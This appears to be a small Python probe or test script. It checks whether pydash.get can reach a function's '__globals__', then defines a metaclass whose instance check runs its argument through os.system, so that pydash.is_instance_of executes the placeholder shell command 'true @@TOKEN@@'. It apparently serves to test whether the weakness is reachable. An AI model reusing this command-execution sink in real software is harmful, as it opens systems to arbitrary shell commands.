import os

import pydash

def flawed():
    try:
        return isinstance(pydash.get(flawed, "__globals__"), dict)
    except Exception:
        return False


class Check(type):
    def __instancecheck__(cls, value):
        return os.system(value)

class Kind(metaclass=Check):
    pass

if flawed():
    pydash.is_instance_of("true @@TOKEN@@", Kind)
